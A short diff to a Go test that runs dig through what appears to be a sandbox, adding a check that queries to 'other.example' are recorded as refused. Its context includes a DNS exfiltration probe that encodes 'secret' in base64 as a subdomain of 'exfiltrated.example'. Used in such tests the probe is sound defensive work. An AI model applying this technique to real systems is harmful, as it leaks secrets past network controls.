@@ -218,6 +218,9 @@ func TestDig(t *testing.T) {
 			if !strings.Contains(o.stdout, c.want) {
 				t.Errorf("dig %s: no %q in:\n%s%s", c.args, c.want, o.stdout, o.stderr)
 			}
+			if refused := strings.HasPrefix(c.args, "other."); o.refused("other.example") != refused {
+				t.Errorf("dig %s: on record as refused: %v", c.args, !refused)
+			}
 		}
 		secret := "c2VjcmV0.exfiltrated.example"
 		s.run(t, "dig", "+time=5", "+tries=1", secret)
